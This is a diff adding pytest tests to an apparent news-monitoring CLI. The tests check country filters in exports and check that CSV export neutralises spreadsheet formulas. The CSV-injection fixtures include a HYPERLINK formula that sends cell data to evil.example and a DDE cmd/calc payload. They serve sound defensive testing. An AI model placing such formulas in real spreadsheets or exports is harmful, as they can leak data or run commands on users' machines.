@@ -459,3 +459,109 @@ def test_a_manual_poll_does_not_stretch_the_backoff_of_a_failing_feed(env: Env) 
         assert len(env.server.hits("/broken")) == 3
     finally:
         db.close()
+
+
+# ------------------------------------------------------------------------------------------------ export filters
+
+
+JUDGED = [  # written for these tests; the judge reads them as the comments say
+    Item("Hungary blocks new EU sanctions against Russia", "https://judged.example/hu", "j1",
+         "Budapest vetoed the package, diplomats said.", published=NOW - 3600),  # HU pro_dialogue
+    Item("Greece backs sanctions but wants talks with Moscow", "https://judged.example/gr", "j2",
+         "Athens supports the sanctions regime but wants the EU to open talks with Moscow.",
+         published=NOW - 5400),  # GR
+    Item("Lisbon hosts a sailing regatta", "https://judged.example/sail", "j3", "Boats from Spain took part.",
+         published=NOW - 600),  # not relevant
+]
+
+
+@pytest.fixture
+def judged(env: Env) -> Env:
+    env.write([("Judged", env.server.route("/judged", Feed(rss(JUDGED))))])
+    assert env.run("poll").returncode == 0
+    return env
+
+
+def test_export_relevant_only_and_per_country(judged: Env) -> None:
+    everything = [json.loads(line) for line in judged.run("export").stdout.splitlines()]
+    assert len(everything) == 3
+    relevant = [json.loads(line) for line in judged.run("export", "--relevant").stdout.splitlines()]
+    assert sorted(r["title"] for r in relevant) == sorted(r["title"] for r in everything if r["relevant"])
+    assert "Lisbon hosts a sailing regatta" not in {r["title"] for r in relevant}
+
+    for spelling in ("EL", "gr", "Greece", "Griechenland"):  # the EU's code, ISO's, names in any language
+        greek = [json.loads(line) for line in judged.run("export", "--country", spelling).stdout.splitlines()]
+        assert [r["title"] for r in greek] == ["Greece backs sanctions but wants talks with Moscow"], spelling
+        assert {s["country"] for s in greek[0]["stances"]} == {"GR"}
+
+    rows = list(csv.DictReader(io.StringIO(judged.run("export", "--format", "csv", "--country", "Hungary",
+                                                      "--country", "EL").stdout)))
+    assert list(rows[0])[-2:] == ["GR", "HU"]  # one column per requested state, nothing packed
+    by_title = {r["title"]: r for r in rows}
+    assert by_title["Hungary blocks new EU sanctions against Russia"]["HU"] == "pro_dialogue"
+    assert by_title["Hungary blocks new EU sanctions against Russia"]["GR"] == ""
+
+    full = list(csv.DictReader(io.StringIO(judged.run("export", "--format", "csv").stdout)))
+    assert len(full[0]) == 10 + 27
+
+    bad = judged.run("export", "--country", "Hungry")
+    assert bad.returncode == 2 and "Traceback" not in bad.stderr
+    assert "'Hungry' is not an EU member state (did you mean Hungary (HU)?)" in bad.stderr
+
+
+def test_stances_take_the_eus_code_for_greece_and_country_names(judged: Env) -> None:
+    for spelling in ("EL", "Greece", "hungary"):
+        result = judged.run("stances", "--country", spelling)
+        assert result.returncode == 0, (spelling, result.stderr)
+        assert result.stdout.splitlines()[1].startswith("GR Greece" if spelling != "hungary" else "HU Hungary")
+    bad = judged.run("stances", "--country", "Atlantis")
+    assert bad.returncode == 2
+    assert "'Atlantis' is not an EU member state (use a code such as IT, PL or EL, or a name such as Hungary)" \
+        in bad.stderr
+
+
+# ------------------------------------------------------------------------------------------------ CSV injection
+
+
+FORMULAS = [  # titles a hostile or careless feed can carry; a spreadsheet would run each as a formula
+    Item('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "https://csv.example/1", "c1", "x",
+         published=NOW - 100),
+    Item("+31 new sanctions listed", "https://csv.example/2", "c2", "=1+1", published=NOW - 200),
+    Item("-5% fall in gas flows", "https://csv.example/3", "c3", "y", published=NOW - 300),
+    Item("@SUM(1+1)*cmd|' /C calc'!A0", "https://csv.example/4", "c4", "z", published=NOW - 400),
+    Item('"=2+5" said the headline', "https://csv.example/5", "c5", "z", published=NOW - 500),
+    Item("A plain headline about the summit", "https://csv.example/6", "c6", "plain", published=NOW - 600),
+]
+
+
+def test_csv_export_neutralises_spreadsheet_formulas(env: Env) -> None:
+    env.write([("=Feed", env.server.route("/csv", Feed(rss(FORMULAS))))])
+    assert env.run("poll").returncode == 0
+    result = env.run("export", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    titles = {r["url"]: r["title"] for r in rows}
+    assert titles["https://csv.example/1"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    assert titles["https://csv.example/2"] == "'+31 new sanctions listed"
+    assert titles["https://csv.example/3"] == "'-5% fall in gas flows"
+    assert titles["https://csv.example/4"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert titles["https://csv.example/5"] == '\'"=2+5" said the headline'  # behind a quote a spreadsheet strips
+    assert titles["https://csv.example/6"] == "A plain headline about the summit"
+    assert {r["summary"] for r in rows if r["url"] == "https://csv.example/2"} == {"'=1+1"}
+    assert {r["feeds"] for r in rows} == {"'=Feed"}
+    for r in rows:  # numbers stay numbers
+        assert r["id"].isdigit() and not r["relevance"].startswith("'")
+    # jsonl is for programs, not spreadsheets: unchanged
+    records = [json.loads(line) for line in env.run("export").stdout.splitlines()]
+    assert {r["title"] for r in records} >= {"+31 new sanctions listed", "-5% fall in gas flows"}
+
+
+@pytest.mark.parametrize(("cell", "safe"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("\tplain", "'\tplain"), ("  =1+1", "'  =1+1"), ('"=1+1"', '\'"=1+1"'), ("' =1", "'' =1"),
+    ("plain", "plain"), ("a=b", "a=b"), ("2026-11-01", "2026-11-01"), ("", ""), (-0.5, -0.5), (7, 7),
+])
+def test_spreadsheet_safe_cells(cell: object, safe: object) -> None:
+    from monitor.cli import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == safe
